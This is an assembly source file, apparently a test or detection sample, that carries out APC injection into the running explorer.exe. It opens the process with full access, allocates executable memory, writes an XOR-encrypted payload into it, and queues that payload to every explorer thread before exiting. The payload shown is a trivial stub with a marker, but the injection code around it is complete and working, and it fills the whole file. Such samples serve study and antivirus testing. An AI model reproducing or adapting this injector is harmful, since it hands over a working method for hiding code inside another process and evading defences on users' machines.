; SPDX-License-Identifier: Apache-2.0
; APC injection into a program that runs already: the payload is queued to every thread of explorer.exe, one of
; which waits alertably and runs it. The program itself has ended by then.
%import kernel32.dll CreateToolhelp32Snapshot, Thread32First, Thread32Next, OpenThread, OpenProcess
%import kernel32.dll VirtualAllocEx, WriteProcessMemory, QueueUserAPC, ExitProcess
%import user32.dll GetShellWindow, GetWindowThreadProcessId
%entry start
%payload payload payload_end
%encrypt payload payload_end 0x5e

%section .text rx
start:
  call dword ptr [GetShellWindow]
  push process
  push eax
  call dword ptr [GetWindowThreadProcessId]
  test eax, eax
  jz failed
  push dword ptr [process]
  push 0
  push 0x1fffff                ; PROCESS_ALL_ACCESS
  call dword ptr [OpenProcess]
  test eax, eax
  jz failed
  mov ebp, eax
  push 0x40                    ; PAGE_EXECUTE_READWRITE
  push 0x3000
  push 0x1000
  push 0
  push ebp
  call dword ptr [VirtualAllocEx]
  test eax, eax
  jz failed
  mov dword ptr [remote], eax
  mov edi, eax
  mov esi, payload
write:
  mov eax, dword ptr [esi]
  xor eax, 0x5e5e5e5e
  mov dword ptr [piece], eax
  push 0
  push 4
  push piece
  push edi
  push ebp
  call dword ptr [WriteProcessMemory]
  test eax, eax
  jz failed
  add esi, 4
  add edi, 4
  cmp esi, payload_end
  jb write
  push 0
  push 4                       ; TH32CS_SNAPTHREAD
  call dword ptr [CreateToolhelp32Snapshot]
  mov ebx, eax
  push entry
  push ebx
  call dword ptr [Thread32First]
next:
  test eax, eax
  jz done
  mov eax, entry
  mov ecx, dword ptr [eax + 12]  ; th32OwnerProcessID
  cmp ecx, dword ptr [process]
  jne another
  push dword ptr [eax + 8]       ; th32ThreadID
  push 0
  push 0x1fffff
  call dword ptr [OpenThread]
  push 0
  push eax
  push dword ptr [remote]
  call dword ptr [QueueUserAPC]
  test eax, eax
  jz failed
another:
  push entry
  push ebx
  call dword ptr [Thread32Next]
  jmp next
done:
  push 0
  call dword ptr [ExitProcess]
failed:
  push 1
  call dword ptr [ExitProcess]

%section .data rw
entry:                         ; THREADENTRY32
  .long 28
  .zero 24
process:
  .long 0
remote:
  .long 0
piece:
  .long 0
payload:
  mov eax, dword ptr [esp + 4]
  ret 4
  %marker
  .p2align 2, 0
payload_end:
